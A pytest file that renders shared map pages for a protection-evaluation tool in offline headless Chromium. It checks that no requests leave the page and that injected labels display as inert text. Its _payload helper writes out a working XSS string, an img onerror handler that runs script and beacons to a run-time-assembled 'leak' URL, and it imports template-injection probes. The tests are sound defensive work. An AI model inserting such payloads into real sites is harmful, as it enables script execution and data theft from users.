"""Open shared maps in headless Chromium with the network cut: layers render, nothing leaves.

Needs Debian's chromium at /usr/bin/chromium (CI: `.ci/run` runs `apt-get install -y chromium`
before `make test`) and the `playwright` package from the dev extra, whose wheel carries its
driver; `playwright install` is never run. Without chromium the tests skip with a loud reason,
unless PROTECTION_EVAL_REQUIRE_BROWSER=1 (set by `.ci/run`), when they fail.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_maps import build, make_large_mission_layers

from protection_eval.sharing.maps import CoverageSubject, make_coverage_map

CHROMIUM = Path("/usr/bin/chromium")


def screenshot_path(tmp_path: Path, name: str) -> Path:
    """Where a screenshot goes: the test's own folder, or $PROTECTION_EVAL_SCREENSHOT_DIR.

    A fixed name in /tmp would be shared by two suites (or two xdist runs) at once.
    """
    folder = os.environ.get("PROTECTION_EVAL_SCREENSHOT_DIR")
    return (Path(folder) if folder else tmp_path) / name

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    if not CHROMIUM.exists():
        if os.environ.get("PROTECTION_EVAL_REQUIRE_BROWSER") == "1":
            pytest.fail(
                "/usr/bin/chromium is missing and PROTECTION_EVAL_REQUIRE_BROWSER=1 (CI): "
                "apt-get install -y chromium"
            )
        pytest.skip(
            "BROWSER TEST SKIPPED: /usr/bin/chromium is missing. CI installs it "
            "(.ci/run: apt-get install -y chromium); locally run `apt-get install -y chromium`."
        )
    try:
        from playwright import sync_api
    except ImportError:
        if os.environ.get("PROTECTION_EVAL_REQUIRE_BROWSER") == "1":
            pytest.fail("playwright is missing (dev extra): pip install -e '.[dev]'")
        pytest.skip("BROWSER TEST SKIPPED: playwright missing: pip install -e '.[dev]'")
    with sync_api.sync_playwright() as p:
        chromium = p.chromium.launch(
            executable_path=str(CHROMIUM),
            args=[
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
            ],
        )
        yield chromium
        chromium.close()


def open_offline(browser: object, path: Path) -> tuple[object, list[str], list[str]]:
    """Open a file with every non-file request aborted; return page, left requests, errors."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})  # type: ignore[attr-defined]
    outside: list[str] = []
    errors: list[str] = []

    def route(r: object) -> None:
        url = r.request.url  # type: ignore[attr-defined]
        if url.startswith(("file://", "data:")):
            r.continue_()  # type: ignore[attr-defined]
        else:
            outside.append(url)
            r.abort()  # type: ignore[attr-defined]

    context.route("**/*", route)
    page = context.new_page()
    page.on(
        "request",
        lambda req: None if req.url.startswith(("file://", "data:")) else outside.append(req.url),
    )
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(path.as_uri(), wait_until="load")
    page.wait_for_selector(".leaflet-interactive", state="attached", timeout=30_000)
    return page, outside, errors


def test_shared_map_renders_offline_with_no_request_leaving_the_page(browser, tmp_path):
    path = tmp_path / "coverage_map.html"
    path.write_text(build().to_html(), encoding="utf-8")
    page, outside, errors = open_offline(browser, path)

    assert outside == [], f"requests left the page: {outside}"
    assert errors == []
    # 2 areas + 1 footprint + 3 shown hexagons + 2 gaps, each an SVG path
    assert page.locator("path.leaflet-interactive").count() == 8
    assert page.locator(".leaflet-marker-icon").count() == 2  # gap rank labels
    title = page.locator(".pe-title")
    assert title.is_visible()
    assert "DEMO-A: patrol coverage and reported SGBV, 2022-01 to 2023-12" in title.inner_text()
    assert "SYNTHETIC DATA" in title.inner_text()
    legend = page.locator(".pe-legend")
    assert legend.is_visible() and "Reports of SGBV per hexagon" in legend.inner_text()
    control = page.locator(".leaflet-control-layers")
    assert control.is_visible()
    for name in ("Areas", "Patrol footprint", "Reports per hexagon", "Gaps"):
        assert name in control.inner_text()
    assert page.locator(".leaflet-control-scale").is_visible()
    assert page.locator(".leaflet-tile").count() == 0  # no tile server configured
    box = page.locator("path.leaflet-interactive").nth(1).bounding_box()
    # upper middle of the second area: clear of the legend, the title and the other layers
    page.mouse.move(box["x"] + 0.5 * box["width"], box["y"] + 0.35 * box["height"])
    tooltip = page.locator(".leaflet-tooltip")
    tooltip.wait_for(state="visible", timeout=5_000)
    assert "Secteur 1" in tooltip.inner_text()
    assert "not shown (suppressed)" in tooltip.inner_text()
    page.screenshot(path=str(screenshot_path(tmp_path, "protection_eval_map_small.png")))
    page.context.close()


@pytest.mark.slow
def test_large_mission_map_renders_offline_and_screenshot_is_taken(browser, tmp_path):
    areas, hexagons, footprint, gaps = make_large_mission_layers()
    html = make_coverage_map(
        areas,
        hexagons,
        footprint,
        gaps,
        subject=CoverageSubject(mission="DEMO-BIG", period="2022-01 to 2023-12",
                                synthetic=True, radius_m=2000),
    ).to_html()
    path = tmp_path / "coverage_map.html"
    path.write_text(html, encoding="utf-8")
    page, outside, errors = open_offline(browser, path)

    assert outside == [] and errors == []
    shown = int(hexagons["incidents"].notna().sum())
    assert page.locator("path.leaflet-interactive").count() >= len(areas) + shown + len(gaps)
    shot = screenshot_path(tmp_path, "protection_eval_map.png")
    page.screenshot(path=str(shot))
    assert shot.stat().st_size > 10_000
    page.context.close()


def _payload(where: str) -> str:
    """A label that, written as HTML, adds a node, sets a flag and sends a request on load."""
    return (
        f'{where}"><img src=x onerror="window.__pwned=(window.__pwned||[]).concat(\'{where}\');'
        "document.body.appendChild(document.createElement('pwned-node'));"
        # The address is assembled at run time, as an attacker would, so the offline check of
        # the page's URLs cannot see it; only the browser test can.
        f"new Image().src=['http:','','127.0.0.1:9','leak?{where}'].join('/')\">"
    )


_HIT_POINT = """(el) => {
    const r = el.getBoundingClientRect();
    for (const fy of [0.5, 0.35, 0.65, 0.2, 0.8, 0.1, 0.9]) {
        for (const fx of [0.5, 0.35, 0.65, 0.2, 0.8, 0.1, 0.9]) {
            const x = r.left + fx * r.width, y = r.top + fy * r.height;
            if (document.elementFromPoint(x, y) === el) return [x, y];
        }
    }
    return null;
}"""


def test_labels_carrying_script_run_nothing_and_send_nothing_on_hover_of_every_shape(
    browser, tmp_path
):
    from test_maps import make_areas, make_footprint, make_gaps, make_hexagons

    areas = make_areas()
    areas["name"] = [_payload("area-name"), "Tom & Jerry's <b>x</b> café"]
    areas["area_id"] = [_payload("area-id"), "A1"]
    hexagons = make_hexagons()
    hexagons["h3_cell"] = [_payload(f"hexagon-{i}") for i in range(len(hexagons))]
    footprint = make_footprint().assign(unit_type=_payload("footprint"))
    gaps = make_gaps()
    gaps["h3_cell"] = [_payload(f"gap-{i}") for i in range(len(gaps))]
    path = tmp_path / "coverage_map.html"
    page_html = build(areas=areas, hexagons=hexagons, footprint=footprint, gaps=gaps).to_html()
    path.write_text(page_html, encoding="utf-8")
    page, outside, errors = open_offline(browser, path)

    shapes = page.locator("path.leaflet-interactive")
    # 2 areas + 1 footprint + 3 shown hexagons + 2 gaps
    assert shapes.count() == 8
    shown: list[str] = []
    for i in range(shapes.count()):
        shape = shapes.nth(i)
        point = shape.evaluate(_HIT_POINT)
        if point is not None:
            page.mouse.move(*point)
        else:
            # Wholly under another layer (a hexagon under its gap outline): hover it by event.
            shape.dispatch_event("mouseover")
        tooltip = page.locator(".leaflet-tooltip").last
        tooltip.wait_for(state="visible", timeout=5_000)
        shown.append(tooltip.inner_text())
        page.mouse.move(1, 1)
        shape.dispatch_event("mouseout")
    page.wait_for_timeout(500)  # an <img onerror> would fire asynchronously

    assert page.evaluate("window.__pwned") is None, "a label ran as script"
    assert page.locator("pwned-node").count() == 0
    assert page.locator(".leaflet-tooltip img").count() == 0
    assert outside == [], f"requests left the page: {outside}"
    assert errors == []
    # Every tooltip showed its labels as text, with their own characters.
    payload = '"><img src=x onerror="window.__pwned'
    assert sum(payload in text for text in shown) == 7, shown  # all but the second area
    assert sum("Tom & Jerry's <b>x</b> café" in text for text in shown) == 1, shown
    assert 'area-name"><img' in shown[0] and 'area-id"><img' in shown[0]
    assert "&amp;" not in "".join(shown) and "&quot;" not in "".join(shown)
    page.context.close()


def test_template_payloads_show_as_their_own_text_in_tooltips_and_title(
    browser, tmp_path, monkeypatch
):
    """Issue 25: area names, codes, unit types and the title are text, never a template."""
    from test_maps import make_areas, make_footprint
    from test_template_injection import COMMENT, EXPRESSION, FILE, FILE_CYCLER, LOOP

    marker = tmp_path / "template-ran"
    monkeypatch.setenv("PE_TEMPLATE_MARKER", str(marker))
    areas = make_areas().assign(name=[EXPRESSION, FILE], area_id=[LOOP, COMMENT])
    footprint = make_footprint().assign(unit_type=FILE_CYCLER)
    path = tmp_path / "coverage_map.html"
    path.write_text(build(areas=areas, footprint=footprint, mission="M-{{7*7}}",
                          period=COMMENT).to_html(), encoding="utf-8")
    page, outside, errors = open_offline(browser, path)

    shown = []
    for i in (0, 1, 2):  # the two areas, then the footprint
        shape = page.locator("path.leaflet-interactive").nth(i)
        point = shape.evaluate(_HIT_POINT)
        assert point is not None, f"shape {i} is covered where it could be hovered"
        page.mouse.move(*point)
        tooltip = page.locator(".leaflet-tooltip").last
        tooltip.wait_for(state="visible", timeout=5_000)
        shown.append(tooltip.inner_text())
        page.mouse.move(1, 1)
        shape.dispatch_event("mouseout")

    assert EXPRESSION in shown[0] and LOOP in shown[0], shown[0]
    assert FILE in shown[1] and COMMENT in shown[1], shown[1]
    assert FILE_CYCLER in shown[2], shown[2]
    title = page.locator(".pe-title").inner_text()
    assert f"M-{{{{7*7}}}}: patrol coverage and reported SGBV, {COMMENT}" in title
    assert page.title().startswith("M-{{7*7}}: patrol coverage")
    visible = page.locator("body").inner_text()
    assert "Zone 49 end" not in visible and "Loop xx end" not in visible and "M-49" not in visible
    assert not marker.exists()
    assert outside == [] and errors == []
    page.context.close()
